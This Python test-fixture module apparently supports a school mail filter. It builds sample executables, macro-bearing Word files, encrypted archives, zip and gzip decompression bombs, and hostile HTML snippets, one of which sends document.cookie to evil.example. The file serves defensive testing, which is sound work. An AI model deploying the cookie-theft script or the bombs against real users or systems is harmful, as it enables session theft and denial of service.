"""Builders of real test files, made in memory so that no binary blob is committed.

Each builder returns the bytes of a file that real tools recognise: libmagic, libarchive,
oletools, msoffcrypto-tool, pypdf. Where no library writes a format (a minimal PE, an OLE
compound file with a VBA project, ZipCrypto, RAR) it is written here from the published
specification, kept as small as the readers accept. Every builder runs in well under 0.5 s.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterable

# --- executables --------------------------------------------------------------------------


def pe_exe(*, gui: bool = True, dll: bool = False) -> bytes:
    """A minimal PE32 for Intel 80386: DOS header, PE signature, COFF, optional header, one section."""
    dos = bytearray(0x40)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x40)  # e_lfanew: the PE header follows at once
    characteristics = 0x0102 | (0x2000 if dll else 0)  # executable image, 32-bit (, DLL)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x014C, 1, 0, 0, 0, 0xE0, characteristics)
    optional = struct.pack(
        "<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII",
        0x10B,  # PE32
        14,
        0,
        0x200,  # SizeOfCode
        0,
        0,
        0x1000,  # AddressOfEntryPoint
        0x1000,  # BaseOfCode
        0x2000,  # BaseOfData
        0x400000,  # ImageBase
        0x1000,  # SectionAlignment
        0x200,  # FileAlignment
        6,
        0,
        0,
        0,
        6,
        0,
        0,
        0x2000,  # SizeOfImage
        0x200,  # SizeOfHeaders
        0,
        2 if gui else 3,  # Subsystem: Windows GUI or console
        0x8140,
        0x100000,
        0x1000,
        0x100000,
        0x1000,
        0,
        16,  # NumberOfRvaAndSizes
    ) + bytes(16 * 8)
    section = struct.pack("<8sIIIIIIHHI", b".text", 0x10, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020)
    headers = bytes(dos) + coff + optional + section
    return headers.ljust(0x200, b"\0") + b"\xc3".ljust(0x200, b"\0")  # the code: one RET


def elf_exe() -> bytes:
    """A minimal static x86-64 ELF executable whose code calls exit(0)."""
    code = b"\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"  # xor edi,edi; mov eax,60; syscall
    total = 64 + 56 + len(code)
    header = struct.pack(
        "<4sBBBBB7sHHIQQQIHHHHHH",
        b"\x7fELF",
        2,  # 64-bit
        1,  # little-endian
        1,
        0,
        0,
        bytes(7),
        2,  # ET_EXEC
        0x3E,  # x86-64
        1,
        0x400000 + 64 + 56,  # entry point: the code after the headers
        64,  # program headers right after this header
        0,
        0,
        64,
        56,
        1,
        64,
        0,
        0,
    )
    program = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, total, total, 0x1000)
    return header + program + code


def macho_exe() -> bytes:
    """A 64-bit Mach-O header for x86_64 with no load commands."""
    return struct.pack("<IiiIIII I", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0, 0) + bytes(32)


def java_class() -> bytes:
    """The start of a compiled Java class (version 52, Java 8)."""
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64)


def lnk_shortcut() -> bytes:
    """A Windows shortcut (.lnk) header: size 0x4C and the ShellLink CLSID."""
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    return struct.pack("<I16sII", 0x4C, clsid, 0, 0) + bytes(0x4C - 28)


def vhd_image() -> bytes:
    """The footer copy that starts a dynamic Virtual PC / Hyper-V disk (.vhd)."""
    return b"conectix" + struct.pack(">II", 2, 0x00010000) + bytes(500)


def vhdx_image() -> bytes:
    """The file type identifier that starts a Hyper-V .vhdx disk."""
    return b"vhdxfile" + "school-milter".encode("utf-16-le").ljust(512, b"\0")


def jar() -> bytes:
    """A Java archive: a manifest and a class file."""
    manifest = b"Manifest-Version: 1.0\r\nMain-Class: Main\r\n\r\n"
    return zip_of([("META-INF/MANIFEST.MF", manifest), ("Main.class", java_class())])


def apk() -> bytes:
    """An Android package: its manifest and code."""
    return zip_of([("AndroidManifest.xml", bytes(64)), ("classes.dex", b"dex\n035\0" + bytes(64))])


def appx() -> bytes:
    """A Windows app package (.appx/.msix)."""
    return zip_of(
        [("AppxManifest.xml", b"<Package/>"), ("[Content_Types].xml", b"<Types/>"), ("app.exe", pe_exe())]
    )


# --- images -------------------------------------------------------------------------------------


def png(width: int = 2, height: int = 2) -> bytes:
    """A valid greyscale PNG."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = b"".join(b"\0" + b"\x80" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


# --- OLE compound files and VBA ------------------------------------------------------------

_FREESECT, _ENDOFCHAIN, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
WORD_CLSID = bytes.fromhex("0609020000000000c000000000000046")  # {00020906-0000-0000-C000-000000000046}
MSI_CLSID = bytes.fromhex("84100c0000000000c000000000000046")  # {000C1084-0000-0000-C000-000000000046}


def ole_file(streams: dict[str, bytes], root_clsid: bytes = bytes(16)) -> bytes:
    """An OLE compound file (MS-CFB version 3) holding `streams`, keyed by "Storage/Stream" paths.

    Every stream must be under 4096 bytes: they all live in the mini stream, which keeps the
    writer short (one FAT, one mini FAT, no DIFAT).
    """
    # Directory tree: index 0 is the root; storages are implied by the paths.
    names: list[str] = ["Root Entry"]
    kinds: list[int] = [5]
    children: dict[int, list[int]] = {0: []}
    datas: list[bytes] = [b""]
    index_of: dict[str, int] = {"": 0}
    for path, data in streams.items():
        if len(data) >= 4096:
            raise ValueError("ole_file keeps every stream under 4096 bytes")
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            key = "/".join(parts[:depth])
            if key in index_of:
                continue
            is_stream = depth == len(parts)
            index_of[key] = len(names)
            names.append(parts[depth - 1])
            kinds.append(2 if is_stream else 1)
            datas.append(data if is_stream else b"")
            children[index_of["/".join(parts[: depth - 1])]].append(index_of[key])
            if not is_stream:
                children[index_of[key]] = []

    left = [_NOSTREAM] * len(names)
    right = [_NOSTREAM] * len(names)
    child = [_NOSTREAM] * len(names)

    def tree(ids: list[int]) -> int:
        # A binary search tree in the CFB order (shorter names first, then case-insensitive).
        if not ids:
            return _NOSTREAM
        mid = len(ids) // 2
        left[ids[mid]] = tree(ids[:mid])
        right[ids[mid]] = tree(ids[mid + 1 :])
        return ids[mid]

    for storage, kids in children.items():
        child[storage] = tree(sorted(kids, key=lambda i: (len(names[i]), names[i].upper())))

    # Mini stream: each stream padded to 64-byte mini sectors.
    mini = bytearray()
    minifat: list[int] = []
    starts = [_ENDOFCHAIN] * len(names)
    for i, data in enumerate(datas):
        if kinds[i] != 2 or not data:
            continue
        first = len(mini) // 64
        count = -(-len(data) // 64)
        starts[i] = first
        minifat.extend([*range(first + 1, first + count), _ENDOFCHAIN])
        mini += data.ljust(count * 64, b"\0")

    dir_sectors = -(-len(names) // 4)
    minifat_sectors = -(-len(minifat) // 128)
    mini_sectors = -(-len(mini) // 512)
    fat_sectors = 1
    while fat_sectors * 128 < fat_sectors + dir_sectors + minifat_sectors + mini_sectors:
        fat_sectors += 1
    first_dir = fat_sectors
    first_minifat = first_dir + dir_sectors
    first_mini = first_minifat + minifat_sectors

    fat = [_FATSECT] * fat_sectors
    for first, count in (
        (first_dir, dir_sectors),
        (first_minifat, minifat_sectors),
        (first_mini, mini_sectors),
    ):
        fat.extend([*range(first + 1, first + count), _ENDOFCHAIN] if count else [])
    fat.extend([_FREESECT] * (fat_sectors * 128 - len(fat)))

    entries = bytearray()
    for i, name in enumerate(names):
        encoded = name.encode("utf-16-le") + b"\0\0"
        start, size = starts[i], len(datas[i])
        clsid = bytes(16)
        if i == 0:
            start, size, clsid = (first_mini if mini else _ENDOFCHAIN), len(mini), root_clsid
        entries += struct.pack(
            "<64sHBBIII16sIQQIQ",
            encoded,
            len(encoded),
            kinds[i],
            1,  # black
            left[i],
            right[i],
            child[i],
            clsid,
            0,
            0,
            0,
            start,
            size,
        )
    unused = struct.pack(
        "<64sHBBIII16sIQQIQ", b"", 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, bytes(16), 0, 0, 0, 0, 0
    )
    entries += unused * (dir_sectors * 4 - len(names))

    difat = list(range(fat_sectors)) + [_FREESECT] * (109 - fat_sectors)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII109I",
        bytes.fromhex("d0cf11e0a1b11ae1"),
        bytes(16),
        0x3E,
        3,
        0xFFFE,
        9,  # 512-byte sectors
        6,  # 64-byte mini sectors
        bytes(6),
        0,
        fat_sectors,
        first_dir,
        0,
        4096,
        first_minifat if minifat else _ENDOFCHAIN,
        minifat_sectors,
        _ENDOFCHAIN,
        0,
        *difat,
    )
    body = struct.pack(f"<{len(fat)}I", *fat) + bytes(entries)
    body += struct.pack(f"<{len(minifat)}I", *minifat).ljust(minifat_sectors * 512, b"\xff")
    body += bytes(mini).ljust(mini_sectors * 512, b"\0")
    return header + body


def vba_compress(data: bytes) -> bytes:
    """MS-OVBA 2.4.1 compression, all literal tokens: valid and readable, if not small."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 4096):
        chunk = data[start : start + 4096]
        tokens = bytearray()
        for i in range(0, len(chunk), 8):
            tokens += b"\x00" + chunk[i : i + 8]  # flag byte 0: the next 8 tokens are literals
        out += struct.pack("<H", 0xB000 | (len(tokens) + 2 - 3)) + tokens
    return bytes(out)


VBA_SOURCE = (
    'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n    MsgBox "Hello from a test macro"\r\nEnd Sub\r\n'
)


def _vba_dir_stream(module: str) -> bytes:
    def record(rid: int, payload: bytes) -> bytes:
        return struct.pack("<HI", rid, len(payload)) + payload

    name = module.encode("cp1252")
    name16 = module.encode("utf-16-le")
    info = (
        record(0x0001, struct.pack("<I", 1))  # PROJECTSYSKIND: 32-bit Windows
        + record(0x0002, struct.pack("<I", 0x409))  # PROJECTLCID
        + record(0x0014, struct.pack("<I", 0x409))  # PROJECTLCIDINVOKE
        + record(0x0003, struct.pack("<H", 1252))  # PROJECTCODEPAGE
        + record(0x0004, b"Project")  # PROJECTNAME
        + record(0x0005, b"")
        + record(0x0040, b"")  # PROJECTDOCSTRING and its Unicode twin
        + record(0x0006, b"")
        + record(0x003D, b"")  # PROJECTHELPFILEPATH
        + record(0x0007, struct.pack("<I", 0))  # PROJECTHELPCONTEXT
        + record(0x0008, struct.pack("<I", 0))  # PROJECTLIBFLAGS
        + struct.pack("<HIIH", 0x0009, 4, 1, 0)  # PROJECTVERSION
        + record(0x000C, b"")
        + record(0x003C, b"")  # PROJECTCONSTANTS
    )
    modules = struct.pack("<HIH", 0x000F, 2, 1) + record(0x0013, struct.pack("<H", 0xFFFF))
    module_record = (
        record(0x0019, name)
        + record(0x0047, name16)
        + record(0x001A, name)
        + record(0x0032, name16)
        + record(0x001C, b"")
        + record(0x0048, b"")
        + record(0x0031, struct.pack("<I", 0))  # MODULEOFFSET: the source starts the stream
        + record(0x001E, struct.pack("<I", 0))
        + record(0x002C, struct.pack("<H", 0xFFFF))
        + struct.pack("<HI", 0x0021, 0)  # procedural module
        + struct.pack("<HI", 0x002B, 0)  # end of module
    )
    return info + modules + module_record + struct.pack("<HI", 0x0010, 0)


def vba_project_streams(root: str = "", source: str = VBA_SOURCE) -> dict[str, bytes]:
    """The streams of a VBA project (MS-OVBA 2.2) with one module, under storage `root`."""
    prefix = f"{root}/" if root else ""
    project = (
        'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\nName="Project"\r\n'
        'HelpContextID="0"\r\nVersionCompatible32="393222000"\r\n\r\n[Workspace]\r\nModule1=0, 0, 0, 0, C\r\n'
    )
    return {
        f"{prefix}PROJECT": project.encode("cp1252"),
        f"{prefix}VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x03\x00",
        f"{prefix}VBA/dir": vba_compress(_vba_dir_stream("Module1")),
        f"{prefix}VBA/Module1": vba_compress(source.encode("cp1252")),
    }


def vba_project_bin() -> bytes:
    """word/vbaProject.bin: an OLE file whose root is the VBA project."""
    return ole_file(vba_project_streams())


def _word_fib(encrypted: bool = False) -> bytes:
    # FibBase (MS-DOC 2.5.2): wIdent 0xA5EC, nFib 0x00C1; fEncrypted is bit 8 of the flags word.
    flags = 0x0100 if encrypted else 0
    return struct.pack("<HHHHH", 0xA5EC, 0x00C1, 0, 0x0409, 0) + struct.pack("<H", flags) + bytes(500)


def doc_with_macros() -> bytes:
    """A legacy Word .doc (OLE, Word CLSID) carrying a VBA project in its Macros storage."""
    streams = {"WordDocument": _word_fib(), "1Table": bytes(512)}
    streams.update(vba_project_streams("Macros"))
    return ole_file(streams, WORD_CLSID)


def doc_plain() -> bytes:
    """A legacy Word .doc (OLE, Word CLSID) with no macros."""
    return ole_file({"WordDocument": _word_fib(), "1Table": bytes(512)}, WORD_CLSID)


def doc_encrypted_flag() -> bytes:
    """A legacy Word .doc whose FIB says it is password-protected (fEncrypted)."""
    return ole_file({"WordDocument": _word_fib(encrypted=True), "1Table": bytes(512)}, WORD_CLSID)


def msi_like() -> bytes:
    """An OLE file with the Windows Installer CLSID, as an .msi has."""
    return ole_file({"\x05SummaryInformation": bytes(64), "Tables": bytes(64)}, MSI_CLSID)


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    "{extra}"
    '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)
_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Minutes of the governors' meeting</w:t></w:r></w:p></w:body></w:document>"
)


def docx(*, macros: bool = False) -> bytes:
    """A Word 2007+ document; with `macros`, a .docm whose word/vbaProject.bin is a real VBA project."""
    if macros:
        main = "application/vnd.ms-word.document.macroEnabled.main+xml"
        extra = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    else:
        main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        extra = ""
    files = {
        "[Content_Types].xml": _CONTENT_TYPES.format(extra=extra, main=main).encode(),
        "_rels/.rels": _RELS.encode(),
        "word/document.xml": _DOCUMENT.encode(),
    }
    if macros:
        files["word/_rels/document.xml.rels"] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
            b' Target="vbaProject.bin"/></Relationships>'
        )
        files["word/vbaProject.bin"] = vba_project_bin()
    return zip_of(files.items())


def docx_encrypted(password: str = "secret") -> bytes:
    """A password-protected Word 2007+ document (ECMA-376 agile encryption, via msoffcrypto-tool)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(docx())).encrypt(password, out)
    return out.getvalue()


def odt(*, encrypted: bool = False) -> bytes:
    """An OpenDocument text; `encrypted` marks its content.xml as LibreOffice does for a password."""
    entry = (
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
        '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
        "</manifest:encryption-data></manifest:file-entry>"
        if encrypted
        else '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        + entry
        + "</manifest:manifest>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        zf.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
        zf.writestr("content.xml", "<office:document-content/>", zipfile.ZIP_DEFLATED)
    return buf.getvalue()


# --- PDF and HTML ----------------------------------------------------------------------------


def pdf(password: str | None = None) -> bytes:
    """A one-page PDF; with `password`, encrypted with it (AES-256 via pypdf)."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if password is not None:
        writer.encrypt(user_password=password, owner_password=password, algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


HTML_PLAIN = (
    b"<!DOCTYPE html><html><head><title>Trip</title></head><body><p>Coach leaves at 8.</p></body></html>"
)
HTML_SCRIPT = (
    b"<!DOCTYPE html><html><head><title>Invoice</title></head><body><p>Loading your document</p>"
    b"<script>document.location='https://evil.example/'+btoa(document.cookie)</script></body></html>"
)
HTML_HANDLER = b'<html><body><img src="x.png" onerror="fetch(\'//evil.example\')"><p>Hi</p></body></html>'
HTML_JS_URL = b'<html><body><a href=" jav&#x61;script:alert(1)">Open invoice</a></body></html>'


# --- archives -------------------------------------------------------------------------------


def zip_of(files: Iterable[tuple[str, bytes | str]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of (name, content) pairs, in order."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, content in files:
            zf.writestr(name, content)
    return buf.getvalue()


def nested_zip(depth: int, leaf_name: str = "evil.exe", leaf: bytes | None = None) -> bytes:
    """A zip in a zip ... `depth` zips deep; the innermost holds `leaf_name`.

    The zip at level k is named level{k}.zip inside its parent, so the leaf's path is
    level1.zip/level2.zip/.../evil.exe under the outer file.
    """
    data = zip_of([(leaf_name, leaf if leaf is not None else pe_exe())])
    for level in range(depth - 1, 0, -1):
        data = zip_of([(f"level{level + 1}.zip", data), (f"readme{level}.txt", b"nothing to see\n")])
    return data


def _raw_zip(entries: list[tuple[str, int, int, int, bytes, int]]) -> bytes:
    """A zip written by hand: (name, flags, method, crc, stored bytes, uncompressed size) per entry."""
    out = bytearray()
    central = bytearray()
    for name, flags, method, crc, stored, size in entries:
        encoded = name.encode()
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x21, crc, len(stored), size, len(encoded), 0
        )
        out += encoded + stored
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            flags,
            method,
            0,
            0x21,
            crc,
            len(stored),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += encoded
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0)
    return bytes(out + central) + eocd


def _zipcrypto_keys(password: bytes) -> list[int]:
    keys = [0x12345678, 0x23456789, 0x34567890]
    for byte in password:
        _zipcrypto_update(keys, byte)
    return keys


def _zipcrypto_update(keys: list[int], byte: int) -> None:
    keys[0] = zlib.crc32(bytes([byte]), keys[0] ^ 0xFFFFFFFF) ^ 0xFFFFFFFF
    keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
    keys[2] = zlib.crc32(bytes([keys[1] >> 24]), keys[2] ^ 0xFFFFFFFF) ^ 0xFFFFFFFF


def zip_encrypted(
    name: str = "payload.exe", content: bytes | None = None, password: bytes = b"infected"
) -> bytes:
    """A zip whose entry is encrypted with PKWARE traditional encryption (ZipCrypto), stored.

    APPNOTE 6.1: a 12-byte header (the last byte is the CRC's high byte, for password
    checking), then the data, each byte XORed with a keystream from three CRC-driven keys.
    """
    content = pe_exe() if content is None else content
    crc = zlib.crc32(content)
    keys = _zipcrypto_keys(password)
    plain = bytes(range(11)) + bytes([crc >> 24]) + content
    cipher = bytearray()
    for byte in plain:
        temp = (keys[2] | 2) & 0xFFFF
        cipher.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        _zipcrypto_update(keys, byte)
    return _raw_zip([(name, 0x0001, 0, crc, bytes(cipher), len(content))])


def zip_bomb(megabytes: int = 100, name: str = "big.txt", prefix: bytes = b"") -> bytes:
    """A zip with one entry of `prefix` and `megabytes` MB of zeros: about 1 KB per MB (ratio near 1000:1).

    Built without deflating 100 MB: after a full flush, deflate restarts from an empty
    window, so each further megabyte of zeros compresses to the very same bytes.
    """
    mb = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(mb) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream += block * megabytes + compressor.flush(zlib.Z_FINISH)
    crc = zlib.crc32(prefix)
    for _ in range(megabytes):
        crc = zlib.crc32(mb, crc)
    return _raw_zip([(name, 0, 8, crc, stream, len(prefix) + (megabytes << 20))])


def zip_absurd_sizes() -> bytes:
    """A zip whose headers claim a 4 GB entry and a huge central directory: lies to be survived."""
    data = bytearray(zip_of([("a.txt", b"hello")]))
    central = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 0xFFFFFFF0)  # uncompressed size
    eocd = data.rfind(b"PK\x05\x06")
    struct.pack_into("<HHI", data, eocd + 8, 0xFFFF, 0xFFFF, 0x7FFFFFFF)  # entries, directory size
    return bytes(data)


def tar_gz(files: Iterable[tuple[str, bytes]], compression: str = "gz") -> bytes:
    """A tar of (name, content) pairs, compressed with `compression` ("gz", "bz2", "xz" or "" for none)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=f"w:{compression}") as tar:
        for name, content in files:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    return buf.getvalue()


def gzip_bomb(megabytes: int = 100, tar_member: str | None = "big.txt") -> bytes:
    """A gzip of `megabytes` MB of zeros, as a .tar.gz holding `tar_member` or, with None, a bare .gz.

    Built like `zip_bomb`: the zero megabytes all compress to one repeated deflate block.
    """
    mb = bytes(1 << 20)
    head = b""
    if tar_member is not None:
        info = tarfile.TarInfo(tar_member)
        info.size = megabytes << 20
        head = info.tobuf(format=tarfile.USTAR_FORMAT)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(mb) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream += block * megabytes
    tail = bytes(1024) if tar_member is not None else b""  # the tar's end-of-archive blocks
    stream += compressor.compress(tail) + compressor.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(megabytes):
        crc = zlib.crc32(mb, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + (megabytes << 20) + len(tail)
    header = b"\x1f\x8b\x08\x00" + bytes(4) + b"\x02\xff"
    return header + stream + struct.pack("<II", crc, size & 0xFFFFFFFF)


def seven_zip(
    files: Iterable[tuple[str, bytes]], password: str | None = None, *, header_encryption: bool = False
) -> bytes:
    """A 7z archive (py7zr); with `password`, AES-encrypted, file names too if `header_encryption`."""
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w", password=password, header_encryption=header_encryption) as archive:
        for name, content in files:
            archive.writestr(content, name)
    return buf.getvalue()


def rar4(files: Iterable[tuple[str, bytes]], *, encrypted: bool = False) -> bytes:
    """A RAR 4 archive of stored (uncompressed) files, written from RARLAB's technote.

    With `encrypted`, each file header carries the password flag (0x04) as WinRAR sets it
    for an encrypted file; the "encrypted" data is the plain bytes, which is enough to test
    that the flag is noticed.
    """

    def block(head_type: int, flags: int, body: bytes) -> bytes:
        size = 7 + len(body)
        rest = struct.pack("<BHH", head_type, flags, size) + body
        return struct.pack("<H", zlib.crc32(rest) & 0xFFFF) + rest

    out = bytearray(b"Rar!\x1a\x07\x00")
    out += block(0x73, 0, bytes(6))  # archive header
    for name, content in files:
        encoded = name.encode()
        flags = 0x8000 | (0x04 if encrypted else 0)  # LONG_BLOCK: data follows the header
        body = struct.pack(
            "<IIBIIBBHI",
            len(content),
            len(content),
            2,  # host OS: Windows
            zlib.crc32(content),
            0x21,  # DOS time
            20,  # version needed to extract: 2.0
            0x30,  # method: store
            len(encoded),
            0x20,  # attributes: archive
        )
        out += block(0x74, flags, body + encoded) + content
    out += block(0x7B, 0x4000, b"")  # end of archive
    return bytes(out)


def iso_image(files: Iterable[tuple[str, bytes]]) -> bytes:
    """An ISO 9660 image (pycdlib) holding (8.3 name, content) pairs at its root."""
    import pycdlib

    iso = pycdlib.PyCdlib()
    iso.new(interchange_level=3, joliet=3)
    for name, content in files:
        iso.add_fp(io.BytesIO(content), len(content), f"/{name.upper()};1", joliet_path=f"/{name}")
    out = io.BytesIO()
    iso.write_fp(out)
    iso.close()
    return out.getvalue()


def ordinary_files_zip(total_bytes: int = 5_000_000) -> bytes:
    """A zip of about `total_bytes` of ordinary school files: text, CSV, a PDF, photos (noise)."""
    import random

    rng = random.Random(7)
    words = ("pupil", "timetable", "governors", "trip", "coach", "permission", "form", "maths", "term")
    files: list[tuple[str, bytes]] = [("minutes.pdf", pdf())]
    packed = 0
    i = 0
    while packed < total_bytes:
        i += 1
        if i % 2:
            files.append((f"photo{i}.jpg", rng.randbytes(500_000)))  # photos do not compress
            packed += 500_000
        else:
            text = " ".join(rng.choice(words) for _ in range(40_000)).encode()
            files.append((f"notes{i}.txt" if i % 4 else f"marks{i}.csv", text))
            packed += len(text) // 8  # about what deflate makes of it
    return zip_of(files)
